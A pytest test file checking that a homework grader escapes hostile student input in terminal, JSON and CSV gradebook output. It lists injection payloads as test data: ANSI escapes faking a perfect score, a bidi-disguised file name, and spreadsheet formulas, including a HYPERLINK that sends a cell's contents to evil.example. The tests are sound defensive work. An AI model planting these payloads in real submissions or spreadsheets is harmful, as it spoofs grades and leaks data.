"""Nothing a student writes is printed or saved raw: every student-controlled field, every payload, every output.

Fields: the student's name and id, the file name, an answer string (a malformed shape), a misspelt
answer field, an unknown question id, a row label; for verify-op the exception text, the student
code's stdout and an import error.  Payloads: ANSI escapes (erase the line, colour, conceal), an
OSC 8 hyperlink, the one-byte C1 CSI, backspace and carriage-return overwrites, a bidi override,
rich markup, Markdown, and spreadsheet formulas (``= + - @``, tab, CR).  Text outputs must hold no
control or bidi character but newlines; JSON keeps the exact text; every CSV cell read back never
starts like a formula, and holds ``'`` + the payload.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from pathlib import Path

import pytest

from convcalc.cli import main
from convcalc.homework.operators.verify_op import verify_op
from convcalc.render.escape import csv_cell, markdown, visible
from convcalc.render.homework import verify_json, verify_text

ESCAPES = [
    "\x1b[2K\x1b[G\x1b[32m✓ Score: 3 / 3 (100%)",
    "hidden\x1b[8m",
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "c1\x9b2Kcsi",
    "over\x08\x08\x08\x08\rwrite",
    "bidi\u202egnp.exe",
    "[bold green]✓ ALL CORRECT[/bold green]",
    "![x](http://evil.example/x.png)",
]
FORMULAS = ["=2+5", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A1,"x")']
PAYLOADS = ESCAPES + FORMULAS

QUESTIONS = """
[[question]]
id = "q1"
input = "3x32x32"
layer = { kind = "conv2d", out_channels = 6, kernel = 3 }
ask = ["output_shape", "params"]
"""


def _bad(text: str) -> list[str]:
    """Control and bidi characters in a text output (newlines allowed)."""
    return [
        repr(ch)
        for ch in text
        if ch != "\n" and (unicodedata.category(ch) in ("Cc", "Zl", "Zp") or ch in "\u202a\u202b\u202c\u202d\u202e")
    ]


def _toml_string(text: str) -> str:
    return json.dumps(text)  # a TOML basic string (json escapes every control character as \\uXXXX)


def _run(argv, capsys) -> tuple[int, str]:
    code = main([str(a) for a in argv])
    out = capsys.readouterr()
    return code, out.out + out.err


def _student(payload: str) -> str:
    name = _toml_string(payload)
    return (
        f"[homework]\nstudent = {name}\nstudent_id = {name}\n\n"
        f'[[question]]\nid = "q1"\n[question.answer]\noutput_shape = {_toml_string("6x30x30" + payload)}\n'
        f"{_toml_string('params' + payload)} = 168\n\n"
        f"[[question]]\nid = {_toml_string('q9' + payload)}\n[question.answer]\nparams = 1\n"
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_one_file_text_outputs_hold_no_control_character(tmp_path, capsys, payload):
    (tmp_path / "questions.toml").write_text(QUESTIONS, encoding="utf-8")
    answers = tmp_path / "answers.toml"
    answers.write_text(_student(payload), encoding="utf-8")
    results = tmp_path / "results.json"
    for feedback in ("full", "hints", "verdict"):
        code, text = _run(
            [
                "check",
                answers,
                "--questions",
                tmp_path / "questions.toml",
                "--feedback",
                feedback,
                "--gradescope",
                results,
            ],
            capsys,
        )
        assert code == 2 and not _bad(text), (feedback, _bad(text), text)
        assert visible(payload) in text  # shown, escaped, not dropped
        data = json.loads(results.read_text(encoding="utf-8"))
        outputs = [data["output"]] + [t["output"] for t in data["tests"]] + [t["name"] for t in data["tests"]]
        assert not any(_bad(o) for o in outputs)
        assert data["output_format"] == "text"
    code, text = _run(["check", answers, "--questions", tmp_path / "questions.toml", "--json"], capsys)
    data = json.loads(text)
    assert data["student"] == payload and data["student_id"] == payload  # JSON: the exact text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_whole_file_error_is_escaped(tmp_path, capsys, payload):
    bad = tmp_path / "bad.toml"
    bad.write_text(QUESTIONS + f"{_toml_string('unknown' + payload)} = 1\n", encoding="utf-8")
    code, text = _run(["check", bad], capsys)
    assert code == 2 and not _bad(text), text


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    subs = folder / "submissions"
    subs.mkdir()
    (folder / "questions.toml").write_text(QUESTIONS, encoding="utf-8")
    for i, payload in enumerate(PAYLOADS):
        (subs / f"{i:02d}_student.toml").write_text(_student(payload), encoding="utf-8")
    (subs / "\x1b[2K\x1b[32mok.toml").write_text('[[question]]\nid = "q1"\n', encoding="utf-8")
    (subs / "=SUM(1+1).toml").write_text('[[question]]\nid = "q1"\n', encoding="utf-8")
    return folder


@pytest.mark.parametrize("excel", [False, True])
def test_class_summary_and_gradebook(hostile_class, capsys, excel):
    book = hostile_class / ("grades_excel.csv" if excel else "grades.csv")
    argv = [
        "check",
        hostile_class / "submissions",
        "--questions",
        hostile_class / "questions.toml",
        "--gradebook",
        book,
    ]
    code, text = _run(argv + (["--excel"] if excel else []), capsys)
    assert code == 3 and not _bad(text), _bad(text)
    assert "\\x1b[2K\\x1b[32mok.toml" in text
    raw = book.read_bytes().decode("utf-8-sig" if excel else "utf-8")
    rows = list(csv.reader(io.StringIO(raw)))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    students = {row[2] for row in rows[1:]}
    ids = {row[0] for row in rows[1:]}
    assert not [c for c in cells if any(ord(ch) < 32 or ch == "\x7f" for ch in c)]  # no raw control character
    for payload in FORMULAS:
        shown = payload.replace("\t", "\\x09").replace("\r", "\\x0d")  # a control character: shown, not kept
        expected = shown if shown != payload else "'" + payload
        assert expected in students and expected in ids
    assert any(row[1].endswith("\\x1b[2K\\x1b[32mok.toml") for row in rows[1:])  # the file cell: ESC shown
    assert "'=SUM(1+1)" in ids
    assert all(rec.startswith('"') for rec in raw.split("\r\n") if rec)  # every cell quoted


def test_class_json_keeps_the_exact_text(hostile_class, capsys):
    code, text = _run(
        ["check", hostile_class / "submissions", "--questions", hostile_class / "questions.toml", "--json"], capsys
    )
    data = json.loads(text)
    assert {s["result"]["student"] for s in data["students"] if s["result"]} >= set(PAYLOADS)


def test_escape_functions():
    assert visible("a\x1b[2Kb\x9bc\u202ed\n") == "a\\x1b[2Kb\\x9bc\\u202ed\\x0a"
    assert visible("a\nb", multiline=True) == "a\nb"
    assert markdown("[x](y) *b*") == "\\[x\\]\\(y\\) \\*b\\*"
    assert [csv_cell(p) for p in ("=1", " =1", "-2", "ok", "2-1")] == ["'=1", "' =1", "'-2", "ok", "2-1"]
    assert csv_cell("\x1b[31m=1") == "\\x1b[31m=1" and csv_cell("\t=1") == "\\x09=1"


HOSTILE_OPERATOR = """
import sys
import paddle.nn as nn

PAYLOADS = {payloads!r}
print("stdout:", *PAYLOADS)
sys.stdout.flush()


class Conv2D(nn.Layer):
    def __init__(self, in_channels, out_channels, kernel_size, stride=1, padding=0):
        super().__init__()
        self.weight = self.create_parameter([out_channels, in_channels, kernel_size, kernel_size])
        self.bias = self.create_parameter([out_channels], is_bias=True)

    def forward(self, x):
        print("forward:", *PAYLOADS)
        raise ValueError("exception: " + " ".join(PAYLOADS))
"""


@pytest.mark.parametrize("where", ["forward", "import"])
def test_verify_op_text_holds_no_control_character(tmp_path, where):
    source = HOSTILE_OPERATOR.format(payloads=ESCAPES)
    if where == "import":
        source = source.replace('print("stdout:", *PAYLOADS)', 'raise ImportError("import: " + " ".join(PAYLOADS))')
    path = tmp_path / "hostile.py"
    path.write_text(source, encoding="utf-8")
    r = verify_op(f"{path}:Conv2D", "conv2d", timeout=60)
    text = verify_text(r)
    assert not r.passed and text.startswith("✗") and not _bad(text), _bad(text)
    assert "\\x1b[2K" in text
    assert all(line.startswith(("✗", "  ")) for line in text.splitlines())  # no line passes for a verdict
    data = json.loads(json.dumps(verify_json(r)))
    assert "\x1b[2K" in data["failure"] + data["detail"]  # JSON: the exact text


def test_the_class_folder_payload_files_exist(hostile_class):
    assert len(list((hostile_class / "submissions").iterdir())) == len(PAYLOADS) + 2
    assert Path(hostile_class / "questions.toml").exists()
